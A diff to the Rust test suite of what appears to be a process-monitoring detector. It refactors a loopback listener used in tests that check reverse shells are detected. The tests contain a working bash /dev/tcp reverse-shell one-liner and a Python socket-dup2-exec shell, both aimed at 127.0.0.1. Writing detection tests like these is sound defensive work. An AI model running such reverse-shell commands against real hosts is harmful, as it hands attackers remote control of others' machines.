@@ -92,22 +92,29 @@ fn cmdline(a: &Value) -> String {
     a["process"]["cmdline"].as_str().unwrap_or("").to_string()
 }
 
+/// A loopback listener playing the attacker: it sends `commands` to the
+/// first shell that connects and returns what came back.
+fn shell_listener(commands: &'static str) -> (u16, std::thread::JoinHandle<String>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let server = std::thread::spawn(move || {
+        let (mut conn, _) = listener.accept().unwrap();
+        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+        conn.write_all(commands.as_bytes()).unwrap();
+        let mut out = String::new();
+        let _ = conn.read_to_string(&mut out);
+        out
+    });
+    (port, server)
+}
+
 #[test]
 fn loopback_reverse_shell_is_detected() {
     if !privileged() {
         return;
     }
     let w = Watch::start(&[]);
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let server = std::thread::spawn(move || {
-        let (mut conn, _) = listener.accept().unwrap();
-        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
-        conn.write_all(b"echo pn-reverse-shell-ok\nexit\n").unwrap();
-        let mut out = String::new();
-        let _ = conn.read_to_string(&mut out);
-        out
-    });
+    let (port, server) = shell_listener("echo pn-reverse-shell-ok\nexit\n");
     let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
     let status = Command::new("timeout").args(["10", "bash", "-c", &script]).status().unwrap();
     let transcript = server.join().unwrap();
@@ -132,16 +139,7 @@ fn shell_on_a_socket_is_detected_from_its_descriptors() {
         return;
     }
     let w = Watch::start(&[]);
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let server = std::thread::spawn(move || {
-        let (mut conn, _) = listener.accept().unwrap();
-        conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
-        conn.write_all(b"echo pn-dup2-shell-ok\nexit\n").unwrap();
-        let mut out = String::new();
-        let _ = conn.read_to_string(&mut out);
-        out
-    });
+    let (port, server) = shell_listener("echo pn-dup2-shell-ok\nexit\n");
     let code = format!(
         "import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\n\
          for fd in (0, 1, 2): os.dup2(s.fileno(), fd)\nos.execv('/bin/sh', ['sh'])"
